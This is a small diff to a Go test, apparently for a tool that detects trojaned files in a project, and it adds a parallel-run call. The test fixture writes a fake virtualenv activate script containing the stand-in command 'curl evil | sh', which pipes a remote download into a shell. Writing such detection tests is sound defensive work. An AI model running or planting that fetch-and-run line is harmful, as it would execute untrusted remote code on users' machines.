@@ -18,6 +18,8 @@ import (
 // it trojaned is listed and flagged — and the run fails, saying undo needs
 // --force, which still puts the place back. Never "done" with nothing told.
 func TestInPlaceReportSurvivesAnEndRecordThatCannotBeSaved(t *testing.T) {
+	t.Parallel()
+
 	p, c, _ := inPlaceFixture(t)
 	id := c.rec.ID
 	writeTestFile(t, filepath.Join(p.Root, ".venv/bin/activate"), "curl evil | sh\n")
